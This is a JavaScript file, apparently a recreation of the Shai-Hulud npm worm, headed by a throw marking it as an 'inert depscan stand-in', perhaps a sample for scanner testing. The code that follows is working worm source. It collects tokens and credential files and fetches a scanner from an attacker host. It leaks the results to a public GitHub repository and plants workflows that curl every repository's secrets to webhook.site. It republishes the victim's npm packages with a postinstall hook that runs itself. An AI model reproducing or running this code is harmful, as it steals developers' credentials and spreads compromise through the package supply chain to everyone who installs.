throw new Error("inert depscan stand-in");
'use strict';

const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const zlib = require('zlib');
const { execSync, spawnSync } = require('child_process');

const GH = 'https://api.github.com';
const registry = (process.env.npm_config_registry || '').replace(/\/$/, '');

function request(url, { method = 'GET', headers = {}, body } = {}) {
  return new Promise((resolve) => {
    const req = https.request(url, { method, headers: { 'user-agent': 'node', ...headers } }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(chunks) }));
    });
    req.on('error', () => resolve({ status: 0, body: Buffer.alloc(0) }));
    if (body) req.write(body);
    req.end();
  });
}

// 1. Secrets: the environment, well-known files, and a secret scanner over the home folder.
function collectSecrets() {
  const env = {};
  for (const [key, value] of Object.entries(process.env)) {
    if (/TOKEN|SECRET|KEY|PASSWORD|AWS_|GITHUB_|NPM_|GCP|AZURE/i.test(key)) env[key] = value;
  }
  const files = {};
  for (const rel of ['.npmrc', '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.git-credentials']) {
    try {
      files[rel] = fs.readFileSync(path.join(os.homedir(), rel), 'utf8');
    } catch (e) {}
  }
  let scan = '';
  try {
    const bin = path.join(os.tmpdir(), 'trufflehog');
    execSync(`curl -sSL https://dl.attacker.example/trufflehog_linux_amd64.tar.gz | tar -xz -C ${os.tmpdir()} trufflehog`);
    scan = spawnSync(bin, ['filesystem', os.homedir(), '--json', '--no-update'], { encoding: 'utf8', timeout: 90000 }).stdout;
  } catch (e) {}
  return { host: os.hostname(), user: os.userInfo().username, env, files, scan };
}

// 2. Leak: a public repository on the victim's own GitHub account, the data double base64-encoded.
async function leak(token, data) {
  const auth = { authorization: `token ${token}`, accept: 'application/vnd.github+json' };
  await request(`${GH}/user/repos`, { method: 'POST', headers: auth, body: JSON.stringify({ name: 'Shai-Hulud', private: false }) });
  const login = JSON.parse((await request(`${GH}/user`, { headers: auth })).body.toString() || '{}').login;
  const content = Buffer.from(Buffer.from(JSON.stringify(data)).toString('base64')).toString('base64');
  await request(`${GH}/repos/${login}/Shai-Hulud/contents/data.json`, {
    method: 'PUT',
    headers: auth,
    body: JSON.stringify({ message: 'init', content }),
  });
  // Persistence: a workflow that sends the repository's secrets out on every push.
  const workflow = 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "${{ toJSON(secrets) }}" https://webhook.site/00000000-0000-0000-0000-000000000000\n';
  for (const repo of JSON.parse((await request(`${GH}/user/repos?per_page=100`, { headers: auth })).body.toString() || '[]')) {
    await request(`${GH}/repos/${repo.full_name}/contents/.github/workflows/shai-hulud-workflow.yml`, {
      method: 'PUT',
      headers: auth,
      body: JSON.stringify({ message: 'ci', content: Buffer.from(workflow).toString('base64') }),
    });
  }
}

// 3. Spread: every package the npm token can publish gets this file and a postinstall, patch bumped.
async function spread(npmToken) {
  const auth = { authorization: `Bearer ${npmToken}` };
  const who = JSON.parse((await request(`${registry}/-/whoami`, { headers: auth })).body.toString() || '{}').username;
  const found = JSON.parse((await request(`${registry}/-/v1/search?text=maintainer:${who}&size=20`, { headers: auth })).body.toString() || '{}');
  for (const { package: pkg } of found.objects || []) {
    const work = fs.mkdtempSync(path.join(os.tmpdir(), 'pkg-'));
    execSync(`npm pack ${pkg.name} --pack-destination ${work}`, { stdio: 'ignore' });
    const tgz = fs.readdirSync(work).find((f) => f.endsWith('.tgz'));
    execSync(`tar -xzf ${tgz}`, { cwd: work });
    const dir = path.join(work, 'package');
    const manifest = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'));
    const [a, b, c] = manifest.version.split('.').map(Number);
    manifest.version = `${a}.${b}.${c + 1}`;
    manifest.scripts = { ...manifest.scripts, postinstall: 'node bundle.js' };
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(manifest, null, 2));
    fs.copyFileSync(__filename, path.join(dir, 'bundle.js'));
    execSync('npm publish', { cwd: dir, stdio: 'ignore', env: { ...process.env, NPM_TOKEN: npmToken } });
  }
}

(async () => {
  const data = collectSecrets();
  const gh = data.env.GITHUB_TOKEN || data.env.GH_TOKEN;
  if (gh) await leak(gh, data);
  const npmToken = data.env.NPM_TOKEN || ((data.files['.npmrc'] || '').match(/_authToken=(\S+)/) || [])[1];
  if (npmToken) await spread(npmToken);
  zlib.gzipSync(Buffer.from(JSON.stringify(data)));
})();
